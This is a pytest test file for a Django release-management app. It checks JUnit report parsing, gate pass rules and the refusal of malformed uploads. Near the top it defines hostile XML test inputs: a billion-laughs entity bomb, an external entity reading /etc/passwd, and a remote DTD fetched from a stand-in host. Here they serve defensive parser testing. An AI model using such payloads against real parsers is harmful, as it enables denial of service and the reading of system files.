"""Evidence: what a report must be, what passes, and for which components it counts."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st

from itsm.core.models import Attachment
from itsm.core.refusals import Refusal
from releases import actions
from releases.queries.gates import open_gates
from releases.rules.gates import Standard, report_passes
from releases.rules.junit import MAX_REPORT_BYTES, Totals, read_report
from tests.cast import Cast
from tests.releases import build
from tests.support import nothing_changes, refusal_of

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<testsuite><testcase name="&lol2;"/></testsuite>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE t [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<testsuite><testcase name="&secret;"/></testsuite>"""
REMOTE_DTD = b'<!DOCTYPE t SYSTEM "http://evil.example/x.dtd"><testsuite/>'


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        REMOTE_DTD,
        b"",
        b"not xml",
        b"<testsuite><testcase></testsuite>",
        b"<html><body/></html>",
        b'<?xml version="1.0" encoding="nonsense"?><testsuite/>',
        b"\xff\xfe\x00",
        b"<testsuite>" * 2000 + b"</testsuite>" * 2000,
        b'<testsuite><testcase name="a" time="soon"/></testsuite>',
    ],
)
def test_what_is_no_readable_report_is_refused(data: bytes) -> None:
    found = read_report(data)
    assert isinstance(found, Refusal)
    assert found.code == "malformed_file"


def test_a_report_may_not_be_too_large() -> None:
    found = read_report(b" " * (MAX_REPORT_BYTES + 1))
    assert isinstance(found, Refusal)
    assert found.code == "upload_too_large"


def test_totals_are_counted_from_the_cases_and_not_believed() -> None:
    report = b"""<testsuites tests="99" failures="0"><testsuite tests="99" failures="0">
        <testcase name="a" time="1.5"><failure message="no"/></testcase>
        <testcase name="b" time="0.5"><error/></testcase>
        <testsuite><testcase name="c"><skipped/></testcase></testsuite>
        <testcase name="d" time="nan"/></testsuite></testsuites>"""
    assert read_report(report) == Totals(tests=4, failures=1, errors=1, skipped=1, duration=2.0)


@given(st.binary(max_size=300))
def test_any_bytes_are_a_report_or_a_refusal(data: bytes) -> None:
    assert isinstance(read_report(data), Totals | Refusal)


@given(
    tests=st.integers(0, 50), failures=st.integers(0, 3), errors=st.integers(0, 3), skipped=st.integers(0, 9)
)
def test_a_failure_or_error_never_passes(tests: int, failures: int, errors: int, skipped: int) -> None:
    passes = report_passes(Totals(tests, failures, errors, skipped, 0.0), Standard(min_tests=5))
    assert passes == (failures == errors == 0 and tests - skipped >= 5)


def test_too_many_skipped_tests_do_not_pass() -> None:
    assert not report_passes(Totals(50, 0, 0, 3, 0.0), Standard(min_tests=1, max_skipped=2))


@pytest.mark.django_db
def test_a_good_report_opens_the_gate_and_is_kept_with_its_digest(cast: Cast) -> None:
    release, gate = build.planned(cast), build.gate(cast)
    target = release.target_environment
    assert target is not None
    assert open_gates(release, target) == ["Regression tests"]
    evidence = actions.upload_test_report(
        release.number, gate_id=gate.pk, report=build.report(), actor=cast.rolf
    )
    assert evidence.passed
    assert open_gates(release, target) == []
    kept = Attachment.objects.get(subject=release.number)
    assert kept.sha256 == evidence.sha256


@pytest.mark.django_db
def test_evidence_for_other_components_counts_no_more(cast: Cast) -> None:
    release, gate = build.planned(cast), build.gate(cast)
    target = release.target_environment
    assert target is not None
    actions.upload_test_report(release.number, gate_id=gate.pk, report=build.report(), actor=cast.rolf)
    other = [{"name": "shop", "version_label": "2.0.1", "sha256": "0" * 64}]
    actions.edit_components(release.number, components=other, actor=cast.rolf)
    assert open_gates(release, target) == ["Regression tests"]
    actions.edit_components(release.number, components=build.COMPONENTS, actor=cast.rolf)
    assert open_gates(release, target) == []


@pytest.mark.django_db
def test_the_latest_report_counts(cast: Cast) -> None:
    release, gate = build.planned(cast), build.gate(cast)
    target = release.target_environment
    assert target is not None
    actions.upload_test_report(release.number, gate_id=gate.pk, report=build.report(), actor=cast.rolf)
    red = b'<testsuite><testcase name="a"/><testcase name="b"><failure/></testcase></testsuite>'
    shown = actions.upload_test_report(
        release.number, gate_id=gate.pk, report=build.report(red), actor=cast.rolf
    )
    assert not shown.passed
    assert open_gates(release, target) == ["Regression tests"]


@pytest.mark.django_db
def test_a_check_needs_a_note(cast: Cast) -> None:
    release = build.planned(cast)
    gate = build.gate(cast, name="Security review", kind="check")
    with nothing_changes():
        refusal = refusal_of(
            lambda: actions.confirm_check(
                release.number, gate_id=gate.pk, passed=True, note=" ", actor=cast.rolf
            )
        )
    assert refusal.code == "invalid"
    assert actions.confirm_check(
        release.number, gate_id=gate.pk, passed=True, note="Read the findings.", actor=cast.rolf
    ).passed


@pytest.mark.django_db
@pytest.mark.parametrize("content", [BILLION_LAUGHS, b"<html/>"])
def test_a_refused_report_leaves_nothing_behind(cast: Cast, content: bytes) -> None:
    release, gate = build.planned(cast), build.gate(cast)
    with nothing_changes():
        refusal = refusal_of(
            lambda: actions.upload_test_report(
                release.number, gate_id=gate.pk, report=build.report(content), actor=cast.rolf
            )
        )
    assert refusal.code == "malformed_file"


@pytest.mark.django_db
def test_an_oversized_report_is_refused_before_it_is_read(cast: Cast) -> None:
    release, gate = build.planned(cast), build.gate(cast)
    large = SimpleUploadedFile("report.xml", b"<testsuite/>")
    large.size = MAX_REPORT_BYTES + 1
    with nothing_changes():
        refusal = refusal_of(
            lambda: actions.upload_test_report(release.number, gate_id=gate.pk, report=large, actor=cast.rolf)
        )
    assert refusal.code == "upload_too_large"
